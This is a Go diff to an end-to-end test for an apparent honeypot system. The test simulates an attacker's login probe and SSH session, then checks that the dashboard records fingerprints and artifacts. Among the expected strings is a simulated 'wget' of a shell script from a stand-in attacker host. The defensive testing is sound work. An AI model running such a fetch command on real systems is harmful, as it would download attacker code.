@@ -2,6 +2,7 @@ package e2e_test
 
 import (
 	"fmt"
+	"maps"
 	"slices"
 	"strings"
 	"testing"
@@ -78,7 +79,7 @@ func TestAnAttackIsSeenWithinASecond(t *testing.T) {
 		})
 	}
 
-	body, err := run(t, "", "curl", "-sS", "-A", "probe/1.0", "-d", "username=admin&password=hunter2", fmt.Sprintf("http://%s:%d/login", web.Address, web.Port))
+	body, err := run(t, "", "curl", "-sS", "-A", "probe/1.0", "-H", "X-Forwarded-For: 10.9.8.7", "-d", "username=admin&password=hunter2", fmt.Sprintf("http://%s:%d/login", web.Address, web.Port))
 	if err != nil || body == "" {
 		t.Fatalf("curl: %v: %s", err, body)
 	}
@@ -103,9 +104,43 @@ func TestAnAttackIsSeenWithinASecond(t *testing.T) {
 		t.Errorf("the second credential is %+v", p.Credentials[1])
 	}
 	everyEventOnce(t, i)
+	checkBounties(t, i, uint64(attempts))
 	page.shows(soon, "127.0.0.1", "root / "+secret, "$ uname -a", "$ wget http://198.51.100.7/x.sh", "POST /login")
 	page.open("/attackers/7f000001")
-	page.shows(5*time.Second, "hunter2", secret, "uname -a", "wget http://198.51.100.7/x.sh")
+	page.shows(5*time.Second, "hunter2", secret, "uname -a", "wget http://198.51.100.7/x.sh", "probe/1.0")
+	page.open("/bounties")
+	page.shows(5*time.Second, "10.9.8.7", "ssh_client_version", "http://198.51.100.7/x.sh", "127.0.0.1")
+}
+
+// checkBounties checks what was learned of an attacker who ran the script some
+// times and asked for a page once, and that every field was of its type.
+func checkBounties(t *testing.T, i *instance.Instance, times uint64) {
+	t.Helper()
+	var list struct{ Items []decnet.Bounty }
+	if err := i.Get(t.Context(), "/bounties?attacker=127.0.0.1", &list); err != nil {
+		t.Fatal(err)
+	}
+	want := map[string]uint64{
+		"fingerprint/ssh_client_version": times, "artifact/url": times, "fingerprint/http_useragent": 1,
+		"fingerprint/spoofed_source": 1, "fingerprint/http_quirks": 1, "ip_leak/x-forwarded-for": 1,
+	}
+	have := map[string]uint64{}
+	for _, b := range list.Items {
+		have[string(b.Type)+"/"+b.Name] += b.Count
+	}
+	if !maps.Equal(have, want) {
+		t.Errorf("bounties are %v, want %v", have, want)
+	}
+	var h struct{ Workers []decnet.Health }
+	eventually(t, 10*time.Second, "the ingester says that no field is mistyped", func() bool {
+		err := i.Get(t.Context(), "/health", &h)
+		k := slices.IndexFunc(h.Workers, func(w decnet.Health) bool { return w.Worker == "ingester" })
+		if err != nil || k < 0 {
+			return false
+		}
+		n, ok := h.Workers[k].Counters["fields_mistyped"]
+		return ok && n == 0
+	})
 }
 
 // everyEventOnce checks that ids are unique and that the attacker's timeline is
